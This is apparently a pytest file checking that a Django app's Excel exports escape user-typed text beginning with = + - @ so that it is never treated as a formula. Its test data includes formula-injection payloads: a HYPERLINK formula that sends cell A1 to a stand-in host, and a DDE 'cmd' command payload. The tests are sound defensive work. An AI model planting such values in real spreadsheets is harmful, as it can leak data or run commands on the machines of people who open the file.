"""Every .xlsx the app writes keeps typed text as text: a value starting with = + - @ is never a formula
(in the file, or once edited or saved as CSV), and numbers stay numbers."""

import io

import pytest
from openpyxl import load_workbook

from investdesk.core.spreadsheets import workbook
from investdesk.dossiers import reports, services
from investdesk.procedures.models import Procedure
from investdesk.quality import exports
from investdesk.quality.models import Objective, QualityYear, Risk

from ..dossiers.conftest import at

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://x.example/?"&A1,"Bấm vào đây")',
    "+84 912 345 678",
    "-2+3",
    "@SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
]


def cells(content: bytes):
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    return [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]


def assert_text(content: bytes, values) -> None:
    found = {cell.value: cell for cell in cells(content)}
    for value in values:
        assert value in found, value
        assert found[value].data_type == "s" and found[value].quotePrefix, value


def test_the_workbook_helper_writes_formula_like_text_as_quoted_text_and_numbers_as_numbers():
    buffer = io.BytesIO()
    book = workbook(buffer, {"in_memory": True})
    sheet = book.add_worksheet()
    bold = book.add_format({"bold": True})
    for row, value in enumerate(HOSTILE):
        sheet.write(row, 0, value, bold if row % 2 else None)
    sheet.write(10, 0, -5)
    sheet.write(11, 0, "Bình thường")
    sheet.merge_range(12, 0, 12, 2, "=1+1", bold)
    book.close()
    assert_text(buffer.getvalue(), [*HOSTILE, "=1+1"])
    found = {cell.value: cell for cell in cells(buffer.getvalue())}
    assert found[-5].data_type == "n" and found["Bình thường"].quotePrefix is False
    assert found["@SUM(A1:A9)"].font.b is True  # the twin keeps the cell's own format


def test_the_dossier_register_escapes_what_the_applicant_typed(staff):
    dossier = services.receive_dossier(
        staff["reception"],
        procedure=Procedure.objects.get(code="cap-lai-gcndkdt"),
        applicant_name=HOSTILE[0],
        channel="online",
        received_at=at("08:00 02/03/2026"),
    )
    content = reports.build_register([dossier])
    assert_text(content, [HOSTILE[0]])
    assert {cell.value: cell for cell in cells(content)}[1].data_type == "n"  # STT stays a number


def test_the_periodic_report_escapes_procedure_names():
    figures = {
        "received": {"total": 1, "online": 1, "direct_or_post": 0, "carried_over": 0},
        "resolved": {
            "total": 0,
            "early": 0,
            "on_time": 0,
            "late": 0,
            "late_with_apology": 0,
            "late_with_late_apology": 0,
        },
        "in_progress": {"total": 1, "within_time": 1, "overdue": 0},
    }
    total = {**figures, "on_time_rate": None, "withdrawn": 0, "stopped": 0}
    content = reports.build_xlsx("Quý 2/2026", [{"procedure": "=2+5", **figures}], total)
    assert_text(content, ["=2+5"])


def test_quality_workbooks_escape_typed_text(seeded):
    plan = QualityYear.objects.get(year=2026)
    Objective.objects.filter(plan=plan, number=1).update(title='=HYPERLINK("http://x")', means="@SUM(1)")
    assert_text(exports.objectives_xlsx(plan), ['=HYPERLINK("http://x")', "@SUM(1)"])
    risk = Risk.objects.filter(register=plan, is_heading=False).exclude(likelihood=None).first()
    Risk.objects.filter(pk=risk.pk).update(opportunity="+1-1", action_plan="-Hủy hợp đồng")
    assert_text(exports.register_xlsx(plan), ["+1-1", "-Hủy hợp đồng"])
